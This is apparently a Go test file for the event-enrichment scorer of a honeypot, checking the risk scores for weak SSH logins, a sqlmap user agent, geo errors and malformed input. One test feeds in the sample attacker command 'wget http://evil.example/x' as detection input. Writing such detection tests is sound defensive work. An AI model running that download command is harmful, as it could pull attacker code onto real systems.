package enrich

import (
	"encoding/json"
	"testing"

	"trapline/internal/capture"
)

func TestEnrichWeakCredential(t *testing.T) {
	e := New(nil)
	raw := capture.RawCapture{
		Service:   capture.ServiceSSH,
		SourceIP:  "203.0.113.5",
		EventType: capture.EventAuthAttempt,
		Details:   capture.MustJSON(capture.AuthAttemptDetails{Username: "admin", Password: "admin"}),
	}

	evt := e.Enrich(raw)

	// weak_credential_pair(30) + privileged_username(20) + service_ssh(10) = 60
	if evt.RiskScore != 60 {
		t.Errorf("expected risk score 60, got %d", evt.RiskScore)
	}
	if evt.RiskLevel != capture.RiskMedium {
		t.Errorf("expected medium risk level, got %s", evt.RiskLevel)
	}
}

func TestEnrichSuspiciousCommand(t *testing.T) {
	e := New(nil)
	raw := capture.RawCapture{
		Service:   capture.ServiceSSH,
		SourceIP:  "203.0.113.5",
		EventType: capture.EventCommand,
		Details:   capture.MustJSON(capture.CommandDetails{Text: "wget http://evil.example/x"}),
	}

	evt := e.Enrich(raw)

	// command_event(20) + suspicious_command(25) + service_ssh(10) = 55
	if evt.RiskScore != 55 {
		t.Errorf("expected risk score 55, got %d", evt.RiskScore)
	}
}

func TestEnrichSaturatesAtHundred(t *testing.T) {
	e := New(nil)
	raw := capture.RawCapture{
		Service:   capture.ServiceTelnet,
		SourceIP:  "203.0.113.5",
		EventType: capture.EventAuthAttempt,
		Details:   capture.MustJSON(capture.AuthAttemptDetails{Username: "admin", Password: "admin"}),
	}

	// The default table gives this capture 65 (weak pair 30 + privileged
	// username 20 + telnet 15); an extra 50-point rule lifts the raw sum
	// to 115 so the clamp is actually exercised.
	e.SetRules(append(DefaultRules(), RiskRule{
		Name:    "test_extra",
		Score:   50,
		Applies: func(ruleContext) bool { return true },
	}))

	evt := e.Enrich(raw)
	if evt.RiskScore != 100 {
		t.Errorf("expected score to saturate at 100, got %d", evt.RiskScore)
	}
}

func TestEnrichPrivateAddress(t *testing.T) {
	e := New(nil)
	raw := capture.RawCapture{
		Service:   capture.ServiceHTTP,
		SourceIP:  "10.0.0.5",
		EventType: capture.EventConnectionOpened,
	}

	evt := e.Enrich(raw)
	if evt.Geo.Error != "private" {
		t.Errorf("expected geo.error 'private', got %q", evt.Geo.Error)
	}
}

func TestEnrichMissingGeoBackend(t *testing.T) {
	e := New(nil)
	raw := capture.RawCapture{
		Service:   capture.ServiceHTTP,
		SourceIP:  "203.0.113.5",
		EventType: capture.EventConnectionOpened,
	}

	evt := e.Enrich(raw)
	if evt.Geo.Error != "unavailable" {
		t.Errorf("expected geo.error 'unavailable', got %q", evt.Geo.Error)
	}
}

func TestEnrichSuspiciousUserAgent(t *testing.T) {
	e := New(nil)
	raw := capture.RawCapture{
		Service:   capture.ServiceHTTP,
		SourceIP:  "203.0.113.5",
		EventType: capture.EventHTTPRequest,
		Details: capture.MustJSON(capture.HTTPRequestDetails{
			Method:    "GET",
			Path:      "/",
			UserAgent: "sqlmap/1.6",
		}),
	}

	evt := e.Enrich(raw)
	if evt.RiskScore != 30 {
		t.Errorf("expected risk score 30, got %d", evt.RiskScore)
	}
}

func TestEnrichMalformedDetailsDoesNotPanic(t *testing.T) {
	e := New(nil)
	raw := capture.RawCapture{
		Service:   capture.ServiceHTTP,
		SourceIP:  "203.0.113.5",
		EventType: capture.EventAuthAttempt,
		Details:   json.RawMessage(`not valid json`),
	}

	evt := e.Enrich(raw)
	if evt.RiskScore != 0 {
		t.Errorf("expected risk score 0 for malformed details, got %d", evt.RiskScore)
	}
}
